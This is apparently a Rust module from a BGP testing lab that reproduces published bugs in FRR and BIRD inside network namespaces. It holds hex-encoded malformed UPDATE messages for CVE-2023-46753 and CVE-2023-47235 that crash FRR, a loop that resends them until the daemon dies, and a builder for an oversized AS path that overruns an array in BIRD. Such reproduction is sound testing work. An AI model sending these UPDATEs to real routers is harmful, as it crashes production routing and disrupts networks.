//! Published bugs of the daemons, as scenarios need them: what triggers them, and the configuration
//! they need.

use crate::daemons::{Daemon, Instance};
use crate::lab::Netns;
use anyhow::{Context, Result};
use std::net::IpAddr;
use std::process::{Command, Stdio};

/// The prefix that most of them are about.
pub const PREFIX: &str = "198.51.100.0/24";

/// How an FRR in a namespace is given a route-map for what a neighbour says.
pub type Prepend = fn(&Instance, &Netns, IpAddr) -> Result<()>;

/// Name and version of the installed daemon, in its own words: a scenario whose bug does not show
/// has to name whom it looked at.
pub fn installed(daemon: Daemon) -> Result<String> {
    let (name, program, option) = match daemon {
        Daemon::Frr => ("FRR", "/usr/lib/frr/bgpd", "--version"),
        Daemon::Bird => ("BIRD", "bird", "--version"),
        Daemon::OpenBgpd => ("OpenBGPD", "/usr/sbin/bgpd", "-V"),
    };
    let out = Command::new(program)
        .arg(option)
        .stdin(Stdio::null())
        .output()
        .with_context(|| format!("starting {program}"))?;
    // FRR says it on standard output, the others on standard error.
    let text = [out.stdout, out.stderr].map(|bytes| String::from_utf8_lossy(&bytes).into_owned()).concat();
    let first = text.lines().next().unwrap_or_default();
    let version = first.split_whitespace().find(|word| word.starts_with(|c: char| c.is_ascii_digit()));
    Ok(format!("{name} {}", version.with_context(|| format!("{program} {option} says {first:?}"))?))
}

/// CVE-2023-46753: FRR up to 9.0 with a route-map that prepends dies of an UPDATE without a path.
pub mod cve_2023_46753 {
    use crate::daemons::Instance;
    use crate::lab::{Lab, Netns, Site, wait_for};
    use crate::operate;
    use crate::replayer::Replayer;
    use anyhow::{Context, Result};
    use std::fs;
    use std::net::IpAddr;
    use std::time::Duration;

    /// How often the UPDATE is sent, each time over a new session, and how long each may take.
    const ATTEMPTS: u32 = 3;
    const EACH: Duration = Duration::from_secs(10);
    /// What the sender's session waits first. It stands as soon as most of the instances have
    /// joined it, and one that joins behind the UPDATE is not given what cannot be replayed.
    const JOINED: &str = "2s";

    /// UPDATE: four unknown attributes, none of the mandatory ones, and 198.51.100.0/24.
    pub const UPDATE: &str =
        "ffffffffffffffffffffffffffffffff002f0200000014ff1f00100004014646464646000446464646464618c63364";

    /// What it is called.
    pub const NAME: &str = "CVE-2023-46753";

    /// Configuration with a route-map that prepends, for what this neighbour says of
    /// 198.51.100.0/24 alone: lines for the end of FRR's file.
    pub fn configuration(neighbour: IpAddr) -> String {
        format!(
            "bgp route-map delay-timer 0\nip prefix-list PUBLISHED seq 5 permit 198.51.100.0/24\n\
             route-map IN permit 10\nmatch ip address prefix-list PUBLISHED\nset as-path prepend 65000\nroute-map IN permit 20\n\
             router bgp 65000\naddress-family ipv4 unicast\nneighbor {neighbour} route-map IN in\n"
        )
    }

    /// Gives a running FRR the same.
    pub fn prepend(frr: &Instance, ns: &Netns, neighbour: IpAddr) -> Result<()> {
        let commands = format!("configure terminal\n{}", configuration(neighbour));
        operate::control(frr, ns, &commands).map(|_| ())
    }

    /// A neighbour that sends the UPDATE when all instances have joined its session; its event
    /// `feed-done` says that it has. FRR misses the check that would save it only where its
    /// neighbour offers graceful restart, as virtd does on every leg.
    pub fn dial(lab: &Lab, site: &Site) -> Result<Replayer> {
        dial_and(lab, site, "")
    }

    /// The same with more lines behind the UPDATE.
    pub fn dial_and(lab: &Lab, site: &Site, more: &str) -> Result<Replayer> {
        let script = lab.directory().join("cve-2023-46753.script");
        fs::write(&script, format!("wait {JOINED}\nraw {UPDATE}\n{more}")).context("the sender's script")?;
        Replayer::dial(lab, site, false, &["--graceful-restart", "--script", &script.display().to_string()])
    }

    /// Sends the UPDATE over new sessions until the daemon is dead; returns the last sender, and
    /// whether it died.
    pub fn send_until_dead(lab: &Lab, site: &Site, mut dead: impl FnMut() -> bool) -> Result<(Replayer, bool)> {
        let mut attempt = 1;
        loop {
            let mut sender = dial(lab, site)?;
            let died = wait_for("the daemon to die", EACH, &mut dead).is_ok();
            if died || attempt == ATTEMPTS {
                return Ok((sender, died));
            }
            sender.finish()?;
            attempt += 1;
        }
    }
}

/// CVE-2023-47235: FRR up to 9.0 with a route-map that prepends dies of an UPDATE that it takes for
/// End-of-RIB although there are prefixes behind it, one of them impossible.
pub mod cve_2023_47235 {
    use crate::daemons::Instance;
    use crate::lab::Netns;
    use crate::operate;
    use anyhow::Result;
    use std::net::IpAddr;

    /// UPDATE: one unknown attribute without a value, and prefixes of which the third is longer
    /// than any.
    pub const UPDATE: &str = "ffffffffffffffffffffffffffffffff002b0200000003c0ff00010100eb00ac100b0b001ad908ac100b0b";

    /// What the session offers beside IPv4, 4-octet ASes and route refresh: graceful restart, and
    /// IPv6.
    pub const OFFER: [&str; 3] = ["--graceful-restart", "--capability", "1:00020001"];

    /// Gives a running FRR a route-map that prepends, for everything this neighbour says.
    pub fn prepend(frr: &Instance, ns: &Netns, neighbour: IpAddr) -> Result<()> {
        let commands = format!(
            "configure terminal\nbgp route-map delay-timer 0\nroute-map ALL permit 10\nset as-path prepend 65000\n\
             router bgp 65000\naddress-family ipv4 unicast\nneighbor {neighbour} route-map ALL in"
        );
        operate::control(frr, ns, &commands).map(|_| ())
    }
}

/// BIRD up to 2.17.4 with a path mask in a filter runs over an array where the path has some
/// thousands of ASes; extended messages (RFC 8654) carry one.
pub mod as_path_mask {
    use crate::daemons::Instance;
    use crate::lab::Netns;
    use crate::operate;
    use anyhow::{Context, Result, ensure};
    use std::fs;

    /// ASes in the path.
    const LENGTH: u32 = 3_000;

    /// Gives a running BIRD extended messages and the filter, with the mask or without; before its
    /// sessions stand, for they are negotiated at their start.
    pub fn configure(bird: &Instance, ns: &Netns, mask: bool) -> Result<()> {
        let path = bird.folder().join("bgp.conf");
        let text = fs::read_to_string(&path).context("BIRD's configuration")?;
        let look = if mask { "if bgp_path ~ [= * 64999 * =] then reject;" } else { "" };
        let filter = format!("filter masked {{ {look} accept; }}\n\nfilter to_peer {{");
        let text = text
            .replacen("filter to_peer {", &filter, 1)
            .replace("import all;", "import filter masked;")
            .replace("    connect delay time", "    enable extended messages on;\n    connect delay time");
        ensure!(text.contains("import filter masked;"), "BIRD's configuration has no import to filter: {text}");
        fs::write(&path, text)?;
        operate::control(bird, ns, "configure").map(|_| ())
    }

    /// UPDATE of 12,066 octets for 198.51.100.0/24, ordinary and valid, in hexadecimal.
    pub fn update(first_as: u32, next_hop: [u8; 4]) -> String {
        let path: Vec<u32> = (0..LENGTH).map(|n| if n == 0 { first_as } else { 200_000 + n }).collect();
        let segment = |s: &[u32]| {
            let members = s.iter().flat_map(|asn| asn.to_be_bytes());
            [2, s.len() as u8].into_iter().chain(members).collect::<Vec<u8>>()
        };
        let as_path: Vec<u8> = path.chunks(255).flat_map(segment).collect();
        let mut attributes = vec![0x40, 1, 1, 0, 0x50, 2];
        attributes.extend((as_path.len() as u16).to_be_bytes());
        attributes.extend(as_path);
        attributes.extend([0x40, 3, 4]);
        attributes.extend(next_hop);
        let nlri = [24, 198, 51, 100];
        let mut message = vec![0xff; 16];
        message.extend(((23 + attributes.len() + nlri.len()) as u16).to_be_bytes());
        message.extend([2, 0, 0]);
        message.extend((attributes.len() as u16).to_be_bytes());
        message.extend(attributes);
        message.extend(nlri);
        message.iter().map(|b| format!("{b:02x}")).collect()
    }
}

/// BIRD 2.0.7 with `export table on` keeps telling a neighbour of the better route after it was
/// withdrawn, where what is left came first.
pub mod zombie {
    use crate::daemons::Instance;
    use crate::lab::Lab;
    use anyhow::{Context, Result, ensure};
    use std::fs;

    /// Starts a BIRD again with an export table towards its `index`th neighbour, counted from 0.
    pub fn configure(bird: &mut Instance, lab: &Lab, index: usize) -> Result<()> {
        let path = bird.folder().join("bgp.conf");
        let text = fs::read_to_string(&path).context("BIRD's configuration")?;
        let protocol = format!("protocol bgp peer{index} {{");
        let (before, after) = text.split_once(&protocol).context("BIRD's configuration has no such neighbour")?;
        let plain = "export filter to_peer; }";
        ensure!(after.contains(plain), "BIRD's configuration has no channel to change: {after}");
        let after = after.replacen(plain, "export filter to_peer; export table on; }", 1);
        fs::write(&path, format!("{before}{protocol}{after}"))?;
        bird.stop();
        bird.launch(lab)
    }
}

/// BIRD before 2.0.8 keeps the flags of an attribute that it does not know, "extended length" among
/// them, but writes a short one's length in one octet: whoever reads it takes the first octet of
/// the value for a part of the length, 1024 for ONLY_TO_CUSTOMER (RFC 9234).
pub mod only_to_customer {
    use crate::lab::Site;
    use crate::odd;

    /// ONLY_TO_CUSTOMER as RFC 9234 has it, with its length in two octets (RFC 4271 section 4.3
    /// allows that).
    pub const EXTENDED: [u8; 8] = [0xd0, 35, 0, 4, 0, 0, 0xfd, 0xe9];
    /// Of five octets: malformed (RFC 9234 section 5).
    pub const TOO_LONG: [u8; 8] = [0xc0, 35, 5, 0, 0, 0xfd, 0xe9, 0];

    /// UPDATE of this site for 198.51.100.0/24 with the attribute, in hexadecimal.
    pub fn update(site: &Site, attribute: &[u8]) -> String {
        let mut attributes = odd::attributes(site);
        attributes.extend_from_slice(attribute);
        wire::bgp::hex(&odd::update(&attributes, &[24, 198, 51, 100]))
    }
}
